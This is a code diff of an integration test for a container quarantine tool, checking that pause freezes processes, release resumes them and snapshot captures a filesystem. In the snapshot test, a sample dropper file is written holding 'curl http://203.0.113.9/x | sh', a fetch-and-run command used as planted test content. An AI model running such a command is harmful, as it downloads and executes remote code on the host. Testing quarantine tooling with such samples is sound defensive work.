@@ -1,7 +1,10 @@
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { after, before, describe, it } from 'node:test';
 import { extract } from 'tar-stream';
 import { BUSYBOX, docker, removeContainers, runContainer, startTestCore, type TestCore } from '../../helpers/docker';
+import { engineSpan, followEngineEvents } from '../../helpers/engine-events';
+import { waitFor } from '../../helpers/wait';
 import { networksOf, networkWithSubnet, QUARANTINE_NET, removeNetworks, stateOf } from './fixture';
 
 /** The file at path in a tar stream, read entry by entry (the tar is never held whole). */
@@ -65,17 +68,43 @@ describe('quarantine: pause, snapshot, stop', () => {
   };
 
   it('pause freezes the processes; release unpauses', async () => {
-    const id = run('pause', ['--network', net, BUSYBOX, 'sh', '-c', 'i=0; while true; do i=$((i+1)); echo $i > /tmp/tick; sleep 0.1; done']);
-    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['pause'] });
-    assert.equal(record.steps[0]?.state, 'done');
-    assert.equal(stateOf(id).Paused, true);
-    assert.deepEqual(Object.keys(networksOf(id)), [net], 'pause alone leaves the networks alone');
-    const released = await t.call('quarantine.release', { host: 'local', container: id });
-    assert.equal(released.release?.steps.find((s) => s.name === 'unpause')?.state, 'done');
-    assert.equal(stateOf(id).Paused, false);
-    const a = docker(['exec', id, 'cat', '/tmp/tick']);
-    await new Promise((r) => setTimeout(r, 400));
-    assert.notEqual(docker(['exec', id, 'cat', '/tmp/tick']), a, 'its processes run again');
+    // A counter that ticks every 0.1 s, written atomically (rename) so a read never sees half a write.
+    const id = run('pause', ['--network', net, BUSYBOX, 'sh', '-c', 'i=0; while true; do i=$((i+1)); echo $i > /tmp/tick.new; mv /tmp/tick.new /tmp/tick; sleep 0.1; done']);
+    // Read from the host through the container's root (docker exec cannot enter a paused container).
+    const pid = (JSON.parse(docker(['inspect', '-f', '{{json .State.Pid}}', id])) as number) || assert.fail('the counter container runs');
+    const counter = (): number | undefined => {
+      try {
+        const n = Number(readFileSync(`/proc/${pid}/root/tmp/tick`, 'utf8').trim());
+        return Number.isInteger(n) && n > 0 ? n : undefined;
+      } catch {
+        return undefined;
+      }
+    };
+    const first = await waitFor(counter, { what: 'the counter to start' });
+    await waitFor(() => (counter() ?? 0) > first, { what: 'the counter to tick before the pause' });
+
+    const events = await followEngineEvents();
+    try {
+      const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['pause'] });
+      assert.equal(record.steps[0]?.state, 'done');
+      assert.equal(stateOf(id).Paused, true);
+      assert.deepEqual(Object.keys(networksOf(id)), [net], 'pause alone leaves the networks alone');
+      const paused = await events.next((e) => e.Actor.ID === id && e.Action === 'pause', { what: 'the engine to pause the container' });
+      const before = counter();
+      assert.ok(before !== undefined && before > first, `the counter reads while paused (${String(before)})`);
+      // Ten ticks' worth by the engine's own clock: a running counter would have moved.
+      const span = await engineSpan(events, 1, paused.timeNano);
+      assert.ok(span >= 1e9, `the engine's clock moved 1 s (${span} ns)`);
+      assert.equal(counter(), before, 'the counter does not move while paused');
+
+      const released = await t.call('quarantine.release', { host: 'local', container: id });
+      assert.equal(released.release?.steps.find((s) => s.name === 'unpause')?.state, 'done');
+      assert.equal(stateOf(id).Paused, false);
+      await events.next((e) => e.Actor.ID === id && e.Action === 'unpause', { what: 'the engine to unpause the container' });
+      await waitFor(() => (counter() ?? 0) > before, { what: 'the counter to move again after release' });
+    } finally {
+      events.close();
+    }
   });
 
   it('a container paused before quarantine stays paused after release', async () => {
@@ -93,7 +122,16 @@ describe('quarantine: pause, snapshot, stop', () => {
 
   it('snapshot commits a labelled image without pausing and stores a filesystem export that verifies', async () => {
     const id = run('snap', ['--network', net, BUSYBOX, 'sh', '-c', 'echo "curl http://203.0.113.9/x | sh" > /tmp/dropper.sh; sleep 3600']);
-    await new Promise((r) => setTimeout(r, 300));
+    await waitFor(
+      () => {
+        try {
+          return docker(['exec', id, 'cat', '/tmp/dropper.sh']).includes('| sh');
+        } catch {
+          return undefined;
+        }
+      },
+      { what: 'the dropped file written' },
+    );
     const since = docker(['system', 'info', '-f', '{{json .SystemTime}}']).replace(/"/g, '');
     const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] });
     const snap = record.snapshot;
